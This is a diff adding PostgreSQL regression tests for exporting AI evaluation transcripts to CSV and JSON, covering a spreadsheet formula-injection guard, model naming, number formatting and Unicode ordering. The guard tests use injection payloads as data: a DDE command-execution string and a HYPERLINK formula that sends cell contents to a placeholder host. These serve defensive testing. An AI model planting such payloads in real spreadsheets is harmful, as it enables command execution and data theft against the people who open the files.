@@ -79,3 +79,93 @@ SELECT m AS model_id,
 -- Unknown or NULL run.
 SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('no-such-run')$$);
 SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv(NULL)$$);
+
+-------------------------------------------------------------------------------
+-- 1.2: the spreadsheet guard (protect_formulas, on by default).
+-------------------------------------------------------------------------------
+-- A text cell whose first character is =, +, -, @, TAB or CR gets a leading
+-- apostrophe (inside the quotes when the cell is quoted); other texts,
+-- numbers (the sample index, dimension values: -2 stays -2) and empty cells
+-- are unchanged. The dimension name "=cmd|' /C calc'!A0" is guarded in the
+-- header; "-x" too. Expected records (protect_formulas on):
+--   header: AI Model Name,Sample Index,'-x,'=cmd|' /C calc'!A0,Decision Code,...
+--   fx-1: '=HYPERLINK(...) in the decision code, '@SUM(1) text, "'+1+1, ok"
+--   fx-2: '-2+3 code, TAB text guarded, CR-led response quoted with ' inside
+--   fx-3: "=" only in the middle of a text: unchanged
+INSERT INTO multisample.scenarios (id, definition_id, name, content) VALUES
+    ('fx-s1', 'ex-def', 'formulas', '{"dimensions": {"=cmd|'' /C calc''!A0": -2, "-x": 1.5}}');
+INSERT INTO multisample.runs (id, definition_id, config) VALUES ('fx-run', 'ex-def', '{}');
+INSERT INTO multisample.transcripts
+    (run_id, id, scenario_id, model_id, sample_index, decision_code, decision_text, content) VALUES
+    ('fx-run', 'fx-1', 'fx-s1', 'm-fx', 0, '=HYPERLINK("http://x.example/?"&A1, "click")', '@SUM(1)',
+     '{"turns": [{"targetResponse": "+1+1, ok"}]}'),
+    ('fx-run', 'fx-2', 'fx-s1', 'm-fx', 1, '-2+3', E'\tTAB first',
+     E'{"turns": [{"targetResponse": "\\rCR first"}]}'),
+    ('fx-run', 'fx-3', 'fx-s1', 'm-fx', 2, 'a=b', 'x @ y', '{"turns": [{"targetResponse": "1-2"}]}');
+SELECT * FROM multisample.export_run_csv('fx-run');
+-- protect_formulas => false: the texts exactly as stored.
+SELECT * FROM multisample.export_run_csv('fx-run', protect_formulas => false);
+
+-------------------------------------------------------------------------------
+-- 1.2: distinct model ids never share a name.
+-------------------------------------------------------------------------------
+-- openai:gpt-4o, azure:gpt-4o and gpt-4o-20240513 all shorten to "gpt-4o":
+-- in that run every model (also anthropic:claude-3-5-haiku-20241022, whose
+-- short name is unique) is named by its model id. In ex-run the short names
+-- differ, so they are used.
+INSERT INTO multisample.runs (id, definition_id, config) VALUES ('mn-run', 'ex-def', '{}');
+INSERT INTO multisample.transcripts (run_id, id, scenario_id, model_id, sample_index, content) VALUES
+    ('mn-run', 'mn-1', 'ex-s3', 'openai:gpt-4o', 0, '{}'),
+    ('mn-run', 'mn-2', 'ex-s3', 'azure:gpt-4o', 0, '{}'),
+    ('mn-run', 'mn-3', 'ex-s3', 'gpt-4o-20240513', 0, '{}'),
+    ('mn-run', 'mn-4', 'ex-s3', 'anthropic:claude-3-5-haiku-20241022', 0, '{}');
+SELECT * FROM multisample.export_run_csv('mn-run');
+SELECT run_id, model_id, model_name FROM multisample.transcript_export
+ WHERE run_id IN ('mn-run', 'ex-run') ORDER BY run_id, model_id;
+
+-------------------------------------------------------------------------------
+-- 1.2: the reference layout.
+-------------------------------------------------------------------------------
+-- js_number_text prints numbers as JavaScript's String(Number(x)):
+--   1.0 -> 1; 2.50 -> 2.5; 0.00000015 -> 1.5e-7 (n = -6: exponent form);
+--   0.000001 -> 0.000001 (n = -5); 1e21 -> 1e+21 (n = 22); 1e20 -> 100000000000000000000;
+--   123456789012345678901 -> 123456789012345680000 (nearest double 1.2345678901234568e20,
+--   17 significant digits, n = 21); -0.0 -> 0; 0.1 + 0.2 as a double -> 0.30000000000000004;
+--   9007199254740993 -> 9007199254740992 (2^53 + 1 is not a double: ties to even);
+--   1e400 -> Infinity, -1e400 -> -Infinity (JSON.parse overflows), 1e-400 -> 0;
+--   -123.456e-10 -> -1.23456e-8.
+SELECT v AS stored, multisample.js_number_text(v::numeric) AS javascript
+  FROM unnest(ARRAY['1.0', '2.50', '0.00000015', '0.000001', '1e21', '1e20', '123456789012345678901', '-0.0',
+                    '0.30000000000000004', '9007199254740993', '1e400', '-1e400', '1e-400', '-123.456e-10']) AS v;
+-- Dimension order. a (U+0061), é (U+00E9), Ａ (U+FF21), 😀 (U+1F600):
+-- byte order (code points) a < é < Ａ < 😀; JavaScript compares UTF-16 units,
+-- where 😀 is D83D DE00 < FF21, so a < é < 😀 < Ａ. Values: 1.0, 2.50, 1e21,
+-- 0.00000015 print as 1, 2.5, 1e+21, 1.5e-7 (reference) and as stored (default).
+-- The reference file starts with the byte order mark EF BB BF.
+INSERT INTO multisample.scenarios (id, definition_id, name, content) VALUES
+    ('ref-s1', 'ex-def', 'reference', '{"dimensions": {"a": 1.0, "é": 2.50, "Ａ": 1e21, "😀": 0.00000015}}');
+INSERT INTO multisample.runs (id, definition_id, config) VALUES ('ref-run', 'ex-def', '{}');
+INSERT INTO multisample.transcripts (run_id, id, scenario_id, model_id, sample_index, decision_code, content) VALUES
+    ('ref-run', 'ref-1', 'ref-s1', 'p:model-20240101', 0, '3', '{"turns": [{"targetResponse": "ok"}]}');
+SELECT * FROM multisample.export_run_csv('ref-run', reference_layout => true);
+SELECT * FROM multisample.export_run_csv('ref-run');
+SELECT encode(convert_to(left(line, 2), 'UTF8'), 'hex') AS first_bytes
+  FROM multisample.export_run_csv('ref-run', reference_layout => true) WITH ORDINALITY AS x (line, n) WHERE n = 1;
+-- No BOM in the default layout.
+SELECT encode(convert_to(left(line, 1), 'UTF8'), 'hex') AS first_bytes
+  FROM multisample.export_run_csv('ref-run') WITH ORDINALITY AS x (line, n) WHERE n = 1;
+-- Bad arguments.
+SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('ref-run', NULL)$$);
+SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('ref-run', reference_layout => NULL)$$);
+
+-------------------------------------------------------------------------------
+-- 1.2: export_run_json, one object per live transcript, in export order.
+-------------------------------------------------------------------------------
+SELECT j::jsonb - 'createdAt' AS transcript
+  FROM multisample.export_run_json('ex-run') AS j;
+-- One line each: the json text holds no line break (escaped as \n, \r).
+SELECT count(*) AS rows, count(*) FILTER (WHERE j::text ~ '[\r\n]') AS with_line_breaks
+  FROM multisample.export_run_json('ex-run') AS j;
+SELECT count(*) AS rows FROM multisample.export_run_json('ex-empty');
+SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_json('no-such-run')$$);
+SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_json(NULL)$$);
